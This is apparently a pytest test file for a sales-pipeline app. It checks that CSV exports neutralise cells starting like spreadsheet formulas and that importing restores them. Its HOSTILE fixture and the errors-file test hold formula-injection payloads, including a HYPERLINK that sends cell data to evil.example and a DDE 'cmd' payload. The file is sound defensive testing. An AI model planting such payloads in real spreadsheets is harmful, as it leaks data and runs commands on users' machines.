"""CSV exports never hand a spreadsheet a formula, and importing them restores the text."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine, insert, select, update

from pipeline_tui.cli import main
from pipeline_tui.importing import import_file
from pipeline_tui.importing.formula import neutralise, restore
from pipeline_tui.models import Deal, DealChange, Quota, User, table_of
from pipeline_tui.seed import seed_demo
from pipeline_tui.storage import open_database
from tests.domain.test_export import deal_fields, exported
from tests.domain.test_import_errors import GOOD, HEADER, csv_bytes
from tests.domain.test_import_people import people, quotas
from tests.domain.test_import_support import TODAY, options

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Texts a deal, a person or a change can genuinely hold; each comes back as it was.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-5% discount",
    "@SUM(1,2)",
    "'quoted",
    "''two apostrophes",
    "'=already prefixed",
    "'",
    "a=1, not a formula",
    "line one\r=2+2",
]


@pytest.fixture
def hostile(engine: Engine) -> Engine:
    """A small demo organisation whose names, teams and history start like formulas."""
    seed_demo(engine, deals=len(HOSTILE) + 5, seed=3, today=TODAY)
    deal, user, change = table_of(Deal), table_of(User), table_of(DealChange)
    with engine.begin() as conn:
        deal_ids = conn.execute(select(deal.c.id).order_by(deal.c.id)).scalars().all()
        for deal_id, name in zip(deal_ids, HOSTILE, strict=False):
            conn.execute(update(deal).where(deal.c.id == deal_id).values(name=name, next_step=name))
        user_ids = conn.execute(select(user.c.id).order_by(user.c.id)).scalars().all()
        for user_id, name in zip(user_ids, HOSTILE, strict=False):
            conn.execute(
                update(user).where(user.c.id == user_id).values(display_name=name, team=name)
            )
        conn.execute(
            insert(change).values(
                deal_id=deal_ids[0], field="name", old_value="\tTabbed", new_value="\rReturn",
                changed_by_id=user_ids[0], changed_at=datetime(2026, 11, 26, tzinfo=UTC),
                source="tui",
            )
        )  # fmt: skip
    return engine


@pytest.fixture
def empty(tmp_path: Path) -> Iterator[Engine]:
    engine = open_database(f"sqlite:///{tmp_path / 'empty.db'}")
    yield engine
    engine.dispose()


@pytest.mark.parametrize("kind", ["deals", "users", "quotas", "changes"])
def test_no_exported_cell_starts_like_a_formula(hostile: Engine, kind: str) -> None:
    # An import never makes such a login, but the database would hold one.
    quota, user = table_of(Quota), table_of(User)
    with hostile.begin() as conn:
        someone = select(quota.c.user_id).limit(1).scalar_subquery()
        conn.execute(update(user).where(user.c.id == someone).values(login="@odd.login"))
    rows = list(csv.reader(io.StringIO(exported(hostile, kind), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'@odd.login" in cells or kind == "changes"
    if kind in ("deals", "users"):
        assert "'-5% discount" in cells and "'''two apostrophes" in cells
    if kind == "changes":
        assert "'\tTabbed" in cells and "'\rReturn" in cells


def test_export_then_import_restores_every_text(
    hostile: Engine, empty: Engine, tmp_path: Path
) -> None:
    for kind in ("users", "quotas", "deals"):
        path = tmp_path / f"{kind}.csv"
        path.write_text(exported(hostile, kind), encoding="utf-8", newline="")
        assert "'=HYPERLINK(" in path.read_text(encoding="utf-8") or kind == "quotas"
        summary = import_file(empty, path, options(kind=kind))
        assert summary.counts.rejected == 0
    assert deal_fields(empty) == deal_fields(hostile)
    names = {deal["name"] for deal in deal_fields(empty).values()}
    assert set(HOSTILE) <= names
    assert people(empty) == people(hostile)
    assert quotas(empty) == quotas(hostile)

    # A file that is not one of our exports keeps its apostrophes.
    path = tmp_path / "people.csv"
    path.write_text("name,team\n'=x,'-y\nAda,''z\n", encoding="utf-8")
    import_file(empty, path, options(kind="users"))
    found = {p["display_name"]: p["team"] for p in people(empty).values()}
    assert {"'=x": "'-y", "Ada": "''z"}.items() <= found.items()


@given(st.text())
def test_restore_undoes_neutralise_and_the_result_never_starts_a_formula(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(FORMULA_STARTS)


def test_the_errors_file_neutralises_the_values_it_repeats(
    sqlite_engine: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [list(r) for r in GOOD]
    rows[0][HEADER.index("Amount")] = '=HYPERLINK("http://evil.example","x")'
    rows[1][HEADER.index("Stage")] = ""
    path, errors = tmp_path / "bad.csv", tmp_path / "errors.csv"
    path.write_bytes(csv_bytes(rows))
    code = main(["import", str(path), "--db", str(sqlite_engine.url.database),
                 "--errors", str(errors)])  # fmt: skip
    capsys.readouterr()
    assert code == 2
    with open(errors, newline="", encoding="utf-8") as stream:
        written = list(csv.reader(stream))[1:]
    assert ["2", "Amount", '\'=HYPERLINK("http://evil.example","x")'] in [r[:3] for r in written]
    assert not [cell for row in written for cell in row if cell.startswith(FORMULA_STARTS)]
